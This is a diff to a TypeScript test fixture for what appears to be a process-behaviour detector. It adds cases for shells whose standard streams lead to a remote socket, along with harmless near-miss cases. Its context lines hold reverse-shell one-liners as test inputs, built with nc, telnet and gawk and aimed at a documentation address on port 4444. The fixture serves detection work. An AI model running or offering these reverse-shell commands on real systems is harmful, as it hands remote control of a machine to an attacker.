@@ -1,4 +1,5 @@
-import type { Event } from '../../../agent/contract/event.ts';
+import type { Event, EventOf } from '../../../agent/contract/event.ts';
+import type { Stream } from '../../../agent/contract/process.ts';
 import type { Severity } from '../../../agent/contract/finding.ts';
 import { fileChanged, identity, noon, process, ref } from '../../builders.ts';
 import { type Behaviour, loaded, mapped, minute, type NearMiss, ran } from './behaviour.ts';
@@ -32,6 +33,18 @@ const dropped: readonly Behaviour[] = [
     events: [mapped(), loaded(), ran('/opt/x/run', ['run'], 5_000, { executable: { path: '/opt/x/run', file: identity({ ctimeNs: ctimeOf(noon + 3_000) }) } })],
   },
 ];
+
+type Flow = Pick<EventOf<'process.executed'>, 'streams' | 'parentStreams'>;
+const remote: Stream = { type: 'socket', family: 'inet', peer: { address: '203.0.113.9', port: 4_444 } };
+const unknown: Stream = { type: 'socket', family: null, peer: null };
+const local: Stream = { type: 'socket', family: 'unix', peer: null };
+const terminal: Stream = { type: 'terminal' };
+const pipe: Stream = { type: 'pipe' };
+
+/** As `program`, with what its standard streams lead to. */
+const hung = (severity: Severity, path: string, argv: readonly string[], flow: Flow): readonly Behaviour[] =>
+  program('child.on-socket', severity, path, argv).map(one => ({ ...one, name: `${one.name}, on a socket`, events: withFlow(one.events, flow) }));
+const withFlow = (events: readonly Event[], flow: Flow): readonly Event[] => events.map(event => event.kind === 'process.executed' ? { ...event, ...flow } : event);
 
 const looking: Behaviour = {
   rule: 'child.recon-tool', name: 'a third different tool that looks around', severity: 'medium', fact: { executable: '/usr/bin/ss' },
@@ -87,6 +100,11 @@ export const programs: readonly Behaviour[] = [
   ...program('child.reverse-shell', 'critical', '/usr/bin/dash', ['sh', '-c', 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f']),
   ...program('child.reverse-shell', 'critical', '/usr/bin/dash', ['sh', '-c', 'telnet 203.0.113.9 4444 | /bin/bash | telnet 203.0.113.9 4445']),
   ...program('child.reverse-shell', 'critical', '/usr/bin/gawk', ['awk', 'BEGIN {s="/inet/tcp/0/203.0.113.9/4444"; while (s |& getline c) system(c)}']),
+  ...hung('critical', '/usr/bin/dash', ['/bin/sh', '-i'], { streams: [remote, remote, remote] }),
+  ...hung('critical', '/usr/bin/python3', ['python3', 'worker.py'], { streams: [unknown, unknown, null] }),
+  ...hung('critical', '/usr/bin/bash', ['bash'], { streams: [terminal, terminal, terminal], parentStreams: [remote, remote, remote] }),
+  ...hung('high', '/usr/bin/bash', ['bash'], { streams: [remote, pipe, { type: 'file' }] }),
+  ...hung('high', '/usr/bin/ffmpeg', ['ffmpeg', '-'], { streams: [remote, remote, { type: 'file' }] }),
   ...program('child.masquerade', 'high', '/opt/x/run', ['[kworker/0:1]']),
   ...program('child.masquerade', 'high', '/opt/x/run', ['/usr/sbin/sshd', '-D']),
   ...program('child.masquerade', 'high', '/opt/x/sshd', ['sshd']),
@@ -103,6 +121,10 @@ const near = (rule: string, path: string, argv: readonly string[], before: reado
   ({ rule, name: `${path} ${argv.join(' ')}`, events: [mapped(), ...before, loaded(), ran(path, argv)] });
 
 export const harmlessPrograms: readonly NearMiss[] = [
+  ...([
+    { streams: null }, { streams: [pipe, pipe, pipe] }, { streams: [local, local, local] }, { streams: [pipe, remote, remote] },
+    { streams: [terminal, terminal, terminal], parentStreams: [pipe, remote, terminal] }, { streams: [pipe, terminal, terminal], parentStreams: [remote, remote, remote] },
+  ] satisfies readonly Flow[]).map((flow): NearMiss => ({ ...near('child.on-socket', '/usr/bin/dash', ['sh']), name: `a shell with ${JSON.stringify(flow)}`, events: withFlow([mapped(), loaded(), ran('/usr/bin/dash', ['sh'])], flow) })),
   near('child.shell', '/usr/bin/shasum', ['shasum', 'x']),
   near('child.shell', '/usr/bin/dash', ['/bin/sh', '/sbin/ldconfig', '-p']),
   near('child.interpreter', '/usr/bin/python3', ['/usr/bin/python3', '-c', 'from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5, pipe_handle=7)', '--multiprocessing-fork']),
